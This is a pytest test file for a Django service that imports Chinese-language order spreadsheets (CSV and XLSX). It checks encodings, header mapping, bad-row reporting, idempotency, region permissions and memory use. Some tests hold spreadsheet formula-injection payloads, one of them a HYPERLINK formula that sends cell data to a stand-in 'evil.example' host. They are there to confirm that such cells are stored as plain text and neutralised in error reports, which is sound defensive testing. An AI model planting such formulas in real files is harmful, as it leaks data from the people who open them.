"""CSV and Excel import: encodings, header map, bad rows, idempotency, the command, the upload
page and bounded memory — all through the one ingest service on PostgreSQL."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation

from orders.imports import ImportFileError, import_job_create, import_job_run, inspect_file
from orders.models import ImportJob, ImportRowError, Order, OrderEvent
from tests.factories import PASSWORD, RegionFactory

HEADER_ZH = [
    "订单号",
    "客户姓名",
    "手机",
    "收货地址",
    "商品",
    "SKU",
    "数量",
    "单价",
    "实付金额",
    "备注",
    "下单时间",
]


def zh_row(ext: str, amount: str = "599.00", note: str = "", name: str = "王小明") -> list[str]:
    return [ext, name, "13510001000", "广东省深圳市南山区科技园南区8栋", "羽绒服", "DJ-001", "1",
            amount, amount, note, "2026-11-20 10:00:00"]  # fmt: skip


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8", header: list[str] = HEADER_ZH) -> bytes:
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerows(rows)
    return text.getvalue().encode(encoding)


def run_import(channel, data: bytes, name: str = "orders.csv") -> ImportJob:
    job = import_job_create(channel=channel, original_name=name, source="command")
    with translation.override("en"):
        return import_job_run(job_id=job.pk, binary=io.BytesIO(data))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_csv_in_utf8_bom_and_gbk_imports_chinese_text_intact(jd, encoding):
    # given a Chinese sheet saved as UTF-8, UTF-8 with BOM (Excel "CSV UTF-8") or GBK
    data = csv_bytes([zh_row("JD-1"), zh_row("JD-2", name="李雷")], encoding=encoding)

    # when it is imported
    job = run_import(jd, data)

    # then both orders exist with their Chinese text decoded and parsed
    assert job.status == "done", job.message
    assert (job.created_count, job.rejected_count, job.total_rows, job.processed_rows) == (2, 0, 2, 2)
    order = Order.objects.get(external_id="JD-1")
    assert order.customer_name == "王小明"
    assert order.city == "深圳市"
    assert order.customer_phone == "+8613510001000"
    assert order.items == [{"sku": "DJ-001", "name": "羽绒服", "qty": 1, "price": "599.00"}]
    assert order.amount == Decimal("599.00")
    assert order.source_created_at == datetime.fromisoformat("2026-11-20T10:00:00+08:00")
    assert Order.objects.get(external_id="JD-2").customer_name == "李雷"
    assert OrderEvent.objects.filter(order=order, kind="ingested", actor=f"import:{job.pk}").count() == 1


def test_xlsx_with_excel_typed_cells_imports(jd):
    # given an xlsx where Excel stored the phone and amount as numbers and the time as a date
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["外部单号", "收货人", "电话", "地址", "金额", "会员", "加急", "类型", "更新时间", "IP"])
    sheet.append(["X-1", "韩梅梅", 13510001000, "北京市朝阳区建国路88号", 1299.5, "是", "加急", "补发",
                  datetime(2026, 11, 21, 9, 30), "113.88.10.7"])  # fmt: skip
    sheet.append([None] * 10)  # a blank row Excel left behind
    sheet.append(["X-2", "李雷", "13510001001", "", 88, "否", "", "", datetime(2026, 11, 21, 9, 31), ""])
    buffer = io.BytesIO()
    workbook.save(buffer)

    # when it is imported
    job = run_import(jd, buffer.getvalue(), name="orders.xlsx")

    # then the typed cells arrive as the contract expects them
    assert job.status == "done", job.message
    assert (job.created_count, job.rejected_count) == (2, 0)
    assert "1 blank rows skipped" in job.message
    first = Order.objects.get(external_id="X-1")
    assert first.customer_phone == "+8613510001000"
    assert first.amount == Decimal("1299.50")
    assert (first.is_vip, first.urgency, first.kind) == (True, "expedited", "reshipment")
    assert first.source_updated_at == datetime.fromisoformat("2026-11-21T09:30:00+08:00")
    assert str(first.client_ip) == "113.88.10.7"
    second = Order.objects.get(external_id="X-2")
    assert (second.is_vip, second.amount, second.flags) == (
        False,
        Decimal("88.00"),
        ["address_missing", "no_items"],
    )


def test_wrong_header_is_refused_with_the_columns_found_and_nothing_is_stored(jd):
    # given a sheet whose header has neither an order number nor an amount column
    data = csv_bytes([["王小明", "13510001000", "x"]], header=["客户姓名", "手机", "杂项"])

    # when it is inspected up front, and when a job runs it anyway
    with translation.override("en"), pytest.raises(ImportFileError) as refused:
        inspect_file(io.BytesIO(data), "orders.csv")
    job = run_import(jd, data)

    # then the message names what was found and what is required, and nothing is stored
    for text in ("external_id", "amount", "订单号", "金额", "客户姓名, 手机, 杂项"):
        assert text in str(refused.value)
    assert job.status == "failed"
    assert "客户姓名, 手机, 杂项" in job.message
    assert Order.objects.count() == 0
    assert ImportRowError.objects.count() == 0
    assert job.processed_rows == 0


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("orders.xls", b"\xd0\xcf\x11\xe0", "Only .csv and .xlsx"),
        ("orders.xlsx", b"not a zip at all", "not a readable Excel"),
        ("orders.csv", b"PK\x03\x04rest", "really an Excel workbook"),
        ("orders.csv", b"", "empty"),
        ("orders.csv", b"\x80\xff" * 10, "not UTF-8 or GBK"),
    ],
)
def test_unreadable_files_are_refused_with_a_clear_message(jd, name, data, expected):
    with translation.override("en"), pytest.raises(ImportFileError, match=expected):
        inspect_file(io.BytesIO(data), name)
    assert Order.objects.count() == 0


def test_a_file_that_turns_invalid_past_the_sample_is_refused_before_storing(jd):
    # given a UTF-8 file whose bytes turn invalid after the first 64 KB the detector samples
    good = csv_bytes([zh_row(f"M-{i}") for i in range(1_000)])
    assert len(good) > 64 * 1024
    data = good + b"M-bad,\xff\xfe\xfa,1,1,1,1,1,1,1,1,1\n"

    # when imported
    job = run_import(jd, data)

    # then the counting pass found it: the job failed with a clear message and stored nothing
    assert job.status == "failed"
    assert (
        job.message == "The file is not valid utf-8 text past its beginning; save it as CSV UTF-8 and retry."
    )
    assert (job.processed_rows, job.created_count, Order.objects.count()) == (0, 0, 0)


def test_formula_cells_are_stored_as_plain_text(jd):
    # given cells that a spreadsheet would run as formulas
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    data = csv_bytes([zh_row("F-1", note=formula, name="@SUM(1+1)")])

    # when imported
    job = run_import(jd, data)

    # then they are kept verbatim as data
    assert job.status == "done", job.message
    order = Order.objects.get(external_id="F-1")
    assert order.note == formula
    assert order.customer_name == "@SUM(1+1)"


def test_a_regional_supervisors_sheet_never_changes_an_order_outside_her_regions(jd, make_user):
    # given an order in 浙江 (the east region), stored by a system import
    south = RegionFactory(code="south", provinces=["广东省"])
    RegionFactory(code="east", provinces=["浙江省"])
    east_row = zh_row("JD-E1", note="原备注")
    east_row[3] = "浙江省杭州市西湖区文三路90号"
    assert run_import(jd, csv_bytes([east_row])).created_count == 1
    # and a supervisor of the south region only
    supervisor = make_user("south-sup", "supervisor")
    south.supervisors.add(supervisor)

    # when she uploads a sheet that rewrites it beside an order of her own region
    east_row[9], east_row[10] = "改了", "2026-11-21 10:00:00"
    job = import_job_create(channel=jd, original_name="orders.csv", source="upload", uploaded_by=supervisor)
    with translation.override("en"):
        job = import_job_run(job_id=job.pk, binary=io.BytesIO(csv_bytes([east_row, zh_row("JD-S1")])))

    # then her own order is stored, the other region's is refused by row and left as it was
    assert (job.created_count, job.rejected_count) == (1, 1), job.message
    (error,) = ImportRowError.objects.filter(job=job)
    assert error.row_number == 2 and "not one you may see" in str(error.errors)
    assert Order.objects.get(external_id="JD-E1").note == "原备注"
    created = OrderEvent.objects.get(order__external_id="JD-S1", kind="ingested")
    assert created.actor == f"import:{job.pk}" and created.actor_user_id == supervisor.pk


def test_duplicate_rows_in_one_file_make_one_order(jd):
    data = csv_bytes([zh_row("D-1"), zh_row("D-1"), zh_row("D-1")])

    job = run_import(jd, data)

    assert (job.created_count, job.ignored_count, job.rejected_count) == (1, 2, 0)
    assert Order.objects.filter(external_id="D-1").count() == 1


@pytest.mark.parametrize("header", [HEADER_ZH, ["order_id", "customer_name", "amount"]])
def test_importing_the_same_file_twice_adds_nothing(jd, header):
    # given a file imported once (with source times, and one without any time column)
    rows = (
        [zh_row(f"S-{i}") for i in range(3)]
        if header is HEADER_ZH
        else [[f"S-{i}", "Li", "10"] for i in range(3)]
    )
    data = csv_bytes(rows, header=header)
    first = run_import(jd, data)
    assert first.created_count == 3
    orders_before = list(Order.objects.order_by("pk").values())
    events_before = OrderEvent.objects.count()

    # when the same file is imported again
    second = run_import(jd, data)

    # then every row is ignored and no order or audit event changed
    assert (second.created_count, second.updated_count, second.ignored_count) == (0, 0, 3)
    assert list(Order.objects.order_by("pk").values()) == orders_before
    assert OrderEvent.objects.count() == events_before


def test_bad_rows_are_reported_with_their_row_numbers_and_good_rows_are_stored(jd):
    # given good rows around a negative amount, three decimals and a missing order number
    data = csv_bytes(
        [
            zh_row("G-1"),  # row 2
            zh_row("B-NEG", amount="-5.00"),  # row 3
            zh_row("B-DEC", amount="12.345"),  # row 4
            zh_row("", note="=1+1"),  # row 5
            zh_row("G-2"),  # row 6
        ]
    )

    # when imported
    job = run_import(jd, data)

    # then the good rows are stored and each bad row is reported where the user sees it
    assert job.status == "done"
    assert (job.created_count, job.rejected_count, job.processed_rows) == (2, 3, 5)
    assert set(Order.objects.values_list("external_id", flat=True)) == {"G-1", "G-2"}
    errors = {e.row_number: e for e in ImportRowError.objects.filter(job=job)}
    assert sorted(errors) == [3, 4, 5]
    assert "实付金额" in errors[3].errors and "greater than or equal to 0" in str(errors[3].errors)
    assert "2 decimal places" in str(errors[4].errors["实付金额"])
    assert errors[5].errors["订单号"] == ["This field is required."]
    assert errors[5].raw["备注"] == "=1+1"
    assert errors[3].external_id == "B-NEG"
    assert errors[3].raw["实付金额"] == "-5.00"


def test_header_variants_and_look_alike_ids_map_to_one_order(jd):
    # given English and decorated headers, and the same id typed full-width and with a space
    header = ["Order_ID *", "Amount (CNY)", "Customer Name", "实付金额（元）"]
    data = csv_bytes(
        [["JD100", "¥1,299.00", "Li", "5"], ["ＪＤ１００ ", "1299.00", "Li", "5"]], header=header
    )

    # when imported
    job = run_import(jd, data)

    # then the first amount-like column wins, the duplicate is listed, and the ids are one order
    assert (job.created_count, job.ignored_count, job.rejected_count) == (1, 1, 0), job.message
    order = Order.objects.get()
    assert (order.external_id, order.amount, order.customer_name) == ("JD100", Decimal("1299.00"), "Li")
    assert "Columns not imported: 实付金额（元）" in job.message


def test_unknown_columns_are_ignored_and_listed(jd):
    data = csv_bytes([["U-1", "10.00", "x", "jd"]], header=["订单号", "金额", "仓库", "渠道"])

    job = run_import(jd, data)

    assert job.created_count == 1
    assert "Columns not imported: 仓库, 渠道" in job.message


# --- The command --------------------------------------------------------------------------


def _call(*args: str) -> str:
    out = io.StringIO()
    with translation.override("en"):
        call_command("import_orders", *args, "--no-progress", stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_command_imports_prints_the_summary_and_writes_the_error_report(jd, tmp_path):
    # given a file with one good and one bad row whose note looks like a formula
    path = tmp_path / "orders.csv"
    path.write_bytes(csv_bytes([zh_row("C-1"), zh_row("C-2", amount="-1", note='=HYPERLINK("x")')]))

    # when the command runs
    output = _call(str(path), "--channel", "jd")

    # then the summary and the report path are printed, and the report is neutralised
    assert "1 created, 0 updated, 0 ignored, 1 rejected" in output
    report = tmp_path / "orders.csv.errors.csv"
    assert str(report) in output
    text = report.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Row", "External id", "Errors"]
    assert rows[0][3:] == HEADER_ZH
    assert rows[1][0] == "3" and rows[1][1] == "C-2"
    assert rows[1][3 + HEADER_ZH.index("实付金额")] == "'-1"
    assert rows[1][3 + HEADER_ZH.index("备注")] == '\'=HYPERLINK("x")'
    assert Order.objects.filter(external_id="C-1").exists()


def test_command_writes_the_report_where_asked_and_none_without_errors(jd, tmp_path):
    path = tmp_path / "ok.csv"
    path.write_bytes(csv_bytes([zh_row("OK-1")]))

    output = _call(str(path), "--channel", "jd", "--errors", str(tmp_path / "r.csv"))

    assert "1 created" in output
    assert not (tmp_path / "r.csv").exists()
    assert not (tmp_path / "ok.csv.errors.csv").exists()


@pytest.mark.parametrize(
    ("setup", "expected"),
    [
        ("unknown_channel", "Unknown channel “nope”. Known channels: jd."),
        ("missing_file", "Cannot read"),
        ("bad_header", "has no column for"),
    ],
)
def test_command_refuses_bad_input_with_nonzero_exit_and_stores_nothing(jd, tmp_path, setup, expected):
    path = tmp_path / "orders.csv"
    if setup == "bad_header":
        path.write_bytes(csv_bytes([["a", "b"]], header=["foo", "bar"]))
    elif setup == "unknown_channel":
        path.write_bytes(csv_bytes([zh_row("N-1")]))
    channel = "nope" if setup == "unknown_channel" else "jd"

    with pytest.raises(CommandError, match=expected) as refused:
        _call(str(path), "--channel", channel)

    assert refused.value.returncode == 1
    assert Order.objects.count() == 0
    assert ImportJob.objects.count() == 0


# --- The upload page ----------------------------------------------------------------------


@pytest.fixture
def web(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.CELERY_TASK_ALWAYS_EAGER = True

    def login(user):
        assert client.login(username=user.username, password=PASSWORD)
        client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
        return client

    return login


def upload(name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def test_agents_may_not_import(jd, make_user, web):
    client = web(make_user("a1", "agent"))

    assert client.get("/imports/").status_code == 403
    response = client.post(
        "/imports/", {"channel": jd.pk, "file": upload("o.csv", csv_bytes([zh_row("P-1")]))}
    )
    assert response.status_code == 403
    assert ImportJob.objects.count() == 0 and Order.objects.count() == 0


def test_upload_refuses_a_bad_extension_and_a_bad_header(jd, supervisor, web):
    client = web(supervisor)

    wrong_type = client.post("/imports/", {"channel": jd.pk, "file": upload("orders.txt", b"a,b\n")})
    bad_header = client.post("/imports/", {"channel": jd.pk, "file": upload("o.csv", b"foo,bar\n1,2\n")})

    assert wrong_type.status_code == 400
    assert "Only .csv and .xlsx files can be imported" in wrong_type.content.decode()
    assert bad_header.status_code == 400
    assert "has no column for" in bad_header.content.decode()
    assert ImportJob.objects.count() == 0 and Order.objects.count() == 0


def test_upload_over_the_size_limit_is_refused(jd, supervisor, web, settings):
    settings.IMPORT_MAX_UPLOAD_BYTES = 1000
    client = web(supervisor)

    # a little over: the form says how big it is; far over: refused from Content-Length
    over = client.post("/imports/", {"channel": jd.pk, "file": upload("o.csv", b"x" * 2000)})
    far_over = client.post("/imports/", {"channel": jd.pk, "file": upload("o.csv", b"x" * 100_000)})

    assert over.status_code == 400
    assert "The file is 2.0\xa0KB; the limit is 1000\xa0bytes." in over.content.decode()
    assert far_over.status_code == 413
    assert "larger than the limit of 1000\xa0bytes" in far_over.content.decode()
    assert ImportJob.objects.count() == 0


def test_upload_runs_the_job_and_reports_progress_and_errors(
    jd, supervisor, web, django_capture_on_commit_callbacks
):
    # given a supervisor uploading a sheet with two good rows and a bad one with a formula
    client = web(supervisor)
    data = csv_bytes(
        [zh_row("W-1"), zh_row("W-2", amount="1.234", note='=HYPERLINK("u","v")'), zh_row("W-3")]
    )
    assert client.get("/imports/").status_code == 200

    # when it is uploaded (the Celery task is enqueued on commit and runs eagerly)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/imports/", {"channel": jd.pk, "file": upload("订单.csv", data)})

    # then the job page is shown and the job completed
    job = ImportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/imports/{job.pk}/"
    assert (job.source, job.uploaded_by, job.original_name) == ("upload", supervisor, "订单.csv")
    page = client.get(f"/imports/{job.pk}/")
    assert page.status_code == 200
    assert b"<progress" in page.content and b"status.json" in page.content
    status = client.get(f"/imports/{job.pk}/status.json").json()
    assert status["status"] == "done"
    assert (status["total_rows"], status["processed_rows"]) == (3, 3)
    assert (status["created"], status["updated"], status["ignored"], status["rejected"]) == (2, 0, 0, 1)
    assert status["errors_url"] == f"/imports/{job.pk}/errors.csv"

    # and the error report downloads with its formula cells neutralised
    report = client.get(status["errors_url"])
    assert report["Content-Type"].startswith("text/csv")
    body = b"".join(report.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0][3:] == HEADER_ZH
    assert rows[1][:2] == ["3", "W-2"]
    assert rows[1][3 + HEADER_ZH.index("备注")] == '\'=HYPERLINK("u","v")'
    assert "2 decimal places" in rows[1][2]
    assert set(Order.objects.values_list("external_id", flat=True)) == {"W-1", "W-3"}


def test_a_job_that_is_not_queued_is_not_run_again(jd):
    from orders.tasks import import_orders_task

    job = run_import(jd, csv_bytes([zh_row("R-1")]))
    events = OrderEvent.objects.count()

    import_orders_task(job.pk)  # a duplicate delivery of the task

    job.refresh_from_db()
    assert job.status == "done" and job.created_count == 1
    assert OrderEvent.objects.count() == events


# --- Bounded memory -----------------------------------------------------------------------


def fat_csv(path: Path, rows: int, prefix: str, *, padding: int) -> int:
    """A file whose rows are big (a column we do not import holds `padding` characters), so
    reading it whole would show in the peak while the ingest work per row stays small."""
    filler = "客户要求周末送货，请提前电话联系。"
    pad = (filler * (padding // len(filler) + 1))[:padding]
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["订单号", "实付金额", "下单时间", "附件"])
        for i in range(rows):
            writer.writerow([f"{prefix}-{i}", "99.00", "2026-11-20 10:00:00", pad])
    return path.stat().st_size


def peak_of(fn) -> int:
    tracemalloc.start()
    try:
        fn()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_reading_a_20000_row_file_takes_bounded_memory(tmp_path):
    from orders.imports import open_table, row_to_payload

    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
    fat_csv(small, 5_000, "S", padding=1000)
    large_size = fat_csv(large, 20_000, "L", padding=1000)

    def read(path: Path):
        def go():
            with path.open("rb") as binary, open_table(binary, path.name) as table:
                assert table.total_rows == int(path.stem == "large") * 15_000 + 5_000
                for _n, cells in table.rows:
                    row_to_payload(table.header, cells)

        return go

    peak_small, peak_large = peak_of(read(small)), peak_of(read(large))

    # A whole-file read would hold ~60 MB and grow 4×; streaming stays flat and small.
    assert large_size > 50_000_000
    assert peak_large < 2_000_000, peak_large
    assert peak_large < peak_small * 1.5, (peak_small, peak_large)


@pytest.mark.django_db(transaction=True)
def test_a_whole_import_runs_in_bounded_memory(jd, tmp_path):
    # Transactional: each chunk commits as in production, so what runs after commit (pushes,
    # the dispatch round it asks for) runs per chunk instead of piling up in a test transaction.
    run_import(jd, csv_bytes([zh_row("WARM-1")]))  # load phone and address data first
    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
    fat_csv(small, 500, "S", padding=4000)
    large_size = fat_csv(large, 2_000, "L", padding=4000)

    def run(path: Path):
        def go():
            job = import_job_create(channel=jd, original_name=path.name, source="command")
            with path.open("rb") as binary:
                done = import_job_run(job_id=job.pk, binary=binary)
            assert done.created_count == done.total_rows

        return go

    peak_small, peak_large = peak_of(run(small)), peak_of(run(large))

    # Chunks of 500 rows: 4× the rows must not mean 4× the memory, nor hold the 24 MB file.
    # (This caught a reference cycle between orders and their pool entries that kept each
    # chunk alive until the cyclic collector ran: memory grew with the file.)
    assert large_size > 20_000_000
    assert peak_large < peak_small * 1.5, (peak_small, peak_large)
    assert peak_large < large_size / 2, (peak_large, large_size)
